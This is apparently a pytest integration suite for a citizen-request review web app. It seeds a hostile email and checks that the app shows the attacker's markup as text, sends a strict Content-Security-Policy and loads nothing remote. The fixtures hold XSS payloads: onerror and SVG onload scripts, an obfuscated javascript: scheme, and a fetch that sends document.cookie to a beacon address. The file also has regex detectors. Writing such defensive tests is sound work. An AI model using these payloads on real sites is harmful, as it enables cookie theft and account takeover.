"""Hostile set 4, the clerk's side: what the attacker's mail tries in the review app.

A reviewer's browser is the one place a citizen's data and the attacker's markup meet.
The attacker writes markup into values the extractor takes (a detail field holding
`"><img onerror>`, a `javascript:` link), an HTML body built to call home when shown
(CSS `url()` and `@import`, `<link>`, `<base>`, `<meta refresh>`, `srcset`, a form
posting elsewhere) and an SVG attachment with a script. The app must show all of it as
text or not at all, and no page or frame may load anything from another host (its CSP
says so, and its HTML names no remote resource). The store is real (SQLite, the real
pipeline); the app is the real one through Starlette's TestClient.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from email import message_from_bytes
from email.policy import default

import pytest
from fastapi.testclient import TestClient

from intake.context import Context
from review.app import create_app
from review.options import WebOptions
from tests.review.conftest import receipt_of, sign_in
from tests.review.review_seed import person, request_body, request_mail, seed_store

pytestmark = pytest.mark.integration

VICTIM = person(410)
BEACON = "http://127.0.0.1:9/"  # an address a browser would call; nothing listens
XSS_DETAIL = '"><img src=x onerror=alert(document.cookie)> javascript:alert(1)'
HTML = f"""<html><head><base href="{BEACON}base/">
<link rel="stylesheet" href="{BEACON}css">
<meta http-equiv="refresh" content="0;url={BEACON}refresh">
<style>@import url({BEACON}import.css); body {{ background: url({BEACON}bg.png) }}</style>
</head><body style="background-image:url('{BEACON}body.png')">
<p>ชื่อ-นามสกุล: {VICTIM.name}</p>
<p><a href="javascript:fetch('{BEACON}js?'+document.cookie)">ดูเอกสาร</a>
<a href="jav&#x09;ascript:alert(1)">แบบฟอร์ม</a>
<a href="{BEACON}phish">ยืนยันตัวตน</a></p>
<img src="{BEACON}pixel.gif" srcset="{BEACON}1x.png 1x, {BEACON}2x.png 2x" width="1" height="1">
<svg><image href="{BEACON}svg.png"/><script>alert(1)</script></svg>
<form action="{BEACON}form" method="post"><input name="q"><button>ส่ง</button></form>
<iframe src="{BEACON}frame"></iframe><object data="{BEACON}obj"></object>
<video poster="{BEACON}poster.png"></video>
<table background="{BEACON}table.png"><tr><td>เรื่อง</td><td>{XSS_DETAIL}</td></tr></table>
</body></html>"""
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>fetch('http://127.0.0.1:9/svg?'+document.cookie)</script></svg>"
)
REMOTE = re.compile(r"(?:https?:)?//127\.0\.0\.1:9/")
ATTRIBUTE_URL = re.compile(
    r"""(?:src|href|srcset|action|background|poster|data|formaction)\s*=\s*["']?\s*"""
    r"""(?:https?:|//|javascript:|jav)""",
    re.IGNORECASE,
)


def hostile_mail() -> bytes:
    text = request_body(VICTIM).replace(
        "รายละเอียด: ", f"รายละเอียด: {XSS_DETAIL} <script>alert(1)</script> "
    )
    raw = request_mail(VICTIM, html=HTML)
    mail = message_from_bytes(raw, policy=default)
    mail.get_body(("plain",)).set_content(text)  # type: ignore[union-attr]
    mail.add_attachment(SVG, maintype="image", subtype="svg+xml", filename="sign.svg")
    return bytes(mail)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Context:
    return seed_store(tmp_path_factory.mktemp("hostile4-web"), [], [hostile_mail()])


@pytest.fixture
def client(store: Context) -> Iterator[TestClient]:
    app = create_app(store.settings, ctx=store, options=WebOptions(secure_cookies="never"))
    with TestClient(app, follow_redirects=True) as test_client:
        yield test_client


def _csp_loads_nothing_remote(csp: str) -> None:
    assert csp, "no Content-Security-Policy"
    assert "http:" not in csp and "https:" not in csp and "*" not in csp, csp
    script = re.search(r"script-src([^;]*)", csp)
    default_src = re.search(r"default-src([^;]*)", csp)
    governing = script or default_src
    assert governing is not None, csp
    assert "unsafe-inline" not in governing.group(1), csp
    assert "unsafe-eval" not in governing.group(1), csp


def _no_live_markup(page: str) -> None:
    assert "<img src=x" not in page and "<script>alert" not in page
    assert not ATTRIBUTE_URL.search(page), ATTRIBUTE_URL.search(page)
    assert not re.search(r"url\(\s*['\"]?\s*(?:https?:)?//", page, re.IGNORECASE)
    assert not re.search(r"<(?:base|link|meta http-equiv|object|embed)\b", page, re.I) or (
        not REMOTE.search(page)
    )


@pytest.mark.parametrize("reveal", [False, True])
def test_the_case_page_shows_the_attackers_markup_as_text_and_loads_nothing(
    client: TestClient, reveal: bool
) -> None:
    csrf = sign_in(client, "boss")
    receipt = receipt_of(client, csrf, VICTIM)
    if reveal:
        response = client.post(
            f"/cases/{receipt}/reveal", data={"reason": "ตรวจสอบคำร้อง", "csrf_token": csrf}
        )
    else:
        response = client.get(f"/cases/{receipt}")
    assert response.status_code == 200
    _csp_loads_nothing_remote(response.headers.get("content-security-policy", ""))
    _no_live_markup(response.text)
    if reveal:
        assert "onerror=alert" in response.text.replace("&#34;", '"')  # shown, as text


def test_the_mail_frame_has_no_remote_resource_script_or_link(client: TestClient) -> None:
    csrf = sign_in(client, "boss")
    receipt = receipt_of(client, csrf, VICTIM)
    page = client.get(f"/cases/{receipt}").text
    frames = re.findall(rf'src="(/cases/{re.escape(receipt)}/mail/[^"]+)"', page)
    assert frames, "the HTML body has a frame on the case page"
    for frame in frames:
        response = client.get(frame)
        assert response.status_code == 200
        csp = response.headers.get("content-security-policy", "")
        _csp_loads_nothing_remote(csp)
        assert "default-src 'none'" in csp and "sandbox" in csp, csp
        assert "allow-scripts" not in csp
        body = response.text
        assert not REMOTE.search(body), REMOTE.search(body)
        assert not ATTRIBUTE_URL.search(body), ATTRIBUTE_URL.search(body)
        assert not re.search(r"<script|<style|@import|<base|<link|<meta http-equiv", body, re.I)
        assert not re.search(r"\son[a-z]+\s*=", body, re.I), "an event handler"


def test_an_svg_attachment_is_downloaded_never_run_on_the_apps_origin(client: TestClient) -> None:
    csrf = sign_in(client, "boss")
    receipt = receipt_of(client, csrf, VICTIM)
    page = client.get(f"/cases/{receipt}").text
    index = re.search(rf'action="/cases/{re.escape(receipt)}/attachments/(\d+)"', page)
    assert index, "the attachment has a download form"
    response = client.post(
        f"/cases/{receipt}/attachments/{index.group(1)}",
        data={"reason": "ตรวจสอบไฟล์แนบ", "csrf_token": csrf},
    )
    assert response.status_code in (200, 403, 409, 422), response.status_code
    if response.status_code == 200 and b"<svg" in response.content:
        disposition = response.headers.get("content-disposition", "")
        assert disposition.startswith("attachment"), disposition
        assert response.headers.get("x-content-type-options") == "nosniff"
        csp = response.headers.get("content-security-policy", "")
        assert "sandbox" in csp or "default-src 'none'" in csp, csp
